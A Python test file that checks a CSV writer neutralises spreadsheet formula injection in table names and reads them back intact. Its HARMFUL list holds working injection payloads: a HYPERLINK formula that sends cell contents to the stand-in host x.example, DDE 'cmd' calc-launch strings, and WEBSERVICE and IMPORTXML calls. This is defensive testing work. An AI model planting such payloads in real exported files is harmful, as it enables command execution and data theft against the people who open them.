"""Names that a spreadsheet would compute stay text in csv files, and come back."""

import csv

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from nmfmerge.fields.table import Table
from nmfmerge.io import read
from nmfmerge.io.formulas import mark, unmark
from nmfmerge.storage.tables import write_tables

HARMFUL = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*IMPORTXML("x")',
    "\t=WEBSERVICE(A1)",
    "＝SUM (1)",
    "='file:///x'#$Sheet.A1!B2",
]
PLAIN = ["-1", "+/-", "+", "@home", "=A1", "-OH", "+H2O", "5'-(p)", "(=)", "-(CH2)-", "a=f(x)", ""]


@pytest.mark.parametrize("name", HARMFUL)
def test_harmful_formulas_begin_with_an_apostrophe(name):
    assert mark(name) == f"'{name}"


@pytest.mark.parametrize("name", PLAIN)
def test_other_names_stay_as_they_are(name):
    assert mark(name) == unmark(name) == name


@given(st.one_of(st.text(), st.from_regex(r"'*[=+@-].{0,5}\(?.{0,5}")))
@example("''=f(x)")
def test_every_name_comes_back(name):
    assert unmark(mark(name)) == name


def test_names_in_csv_files_come_back_through_our_reader(tmp_path):
    names, heads = [*HARMFUL, *PLAIN[:-1]], ["=f(x)", "'=f(x)", "-1a"]
    X = np.arange(3.0 * len(names)).reshape(-1, 3)
    write_tables(tmp_path, [Table("W", ["", *heads], [names, *X.T])])
    with open(tmp_path / "W.csv", newline="", encoding="utf-8") as file:
        first = [cells[0] for cells in csv.reader(file)]
    assert first[1 : len(HARMFUL) + 1] == [f"'{name}" for name in HARMFUL]
    assert first[len(HARMFUL) + 1 :] == PLAIN[:-1]
    data = read(tmp_path / "W.csv")
    assert data.rows.values.tolist() == names
    assert data.columns.values.tolist() == heads
    np.testing.assert_array_equal(data.X, X)
